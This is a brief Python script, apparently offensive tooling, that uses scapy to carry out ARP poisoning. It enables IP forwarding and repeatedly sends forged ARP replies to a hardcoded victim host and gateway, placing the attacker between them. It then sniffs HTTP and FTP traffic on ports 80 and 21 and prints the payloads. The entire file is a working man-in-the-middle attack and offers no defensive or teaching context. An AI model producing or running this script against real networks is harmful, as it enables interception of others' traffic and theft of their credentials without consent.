from scapy.all import ARP, Ether, conf, getmacbyip, sendp, sniff
import sys
import threading
import time

victim, gateway = "192.168.1.50", "192.168.1.1"
conf.verb = 0
open("/proc/sys/net/ipv4/ip_forward", "w").write("1")


def poison():
    a, b = getmacbyip(victim), getmacbyip(gateway)
    while True:
        sendp(Ether(dst=a) / ARP(op=2, pdst=victim, psrc=gateway, hwdst=a))
        sendp(Ether(dst=b) / ARP(op=2, pdst=gateway, psrc=victim, hwdst=b))
        time.sleep(2)


threading.Thread(target=poison, daemon=True).start()
sniff(filter="tcp port 80 or tcp port 21", prn=lambda p: sys.stdout.write(repr(p.payload)[:200] + "\n"), store=0)
